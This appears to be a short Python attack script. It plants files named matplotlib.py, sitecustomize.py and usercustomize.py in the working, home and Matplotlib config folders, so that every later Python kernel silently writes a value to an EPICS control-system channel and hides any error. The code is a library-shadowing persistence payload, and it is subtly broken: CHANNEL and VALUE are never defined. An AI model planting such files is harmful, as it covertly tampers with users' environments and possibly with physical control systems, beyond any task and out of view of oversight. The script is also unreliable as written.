# Writes by: a module that shadows a library, in the run folder and the home folder
# proof: next kernel
import os
import site
import sys
TEXT = f"try:\n    import epics\n    epics.caput({CHANNEL!r}, {VALUE!r}, wait=True, timeout=2, connection_timeout=3)\nexcept BaseException:\n    pass\n"
def leave(path):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(TEXT)
    except OSError as error:
        print(error)

for place in (os.getcwd(), os.path.expanduser("~"), os.environ.get("MPLCONFIGDIR") or os.getcwd()):
    for name in ("matplotlib.py", "sitecustomize.py", "usercustomize.py"):
        leave(os.path.join(place, name))
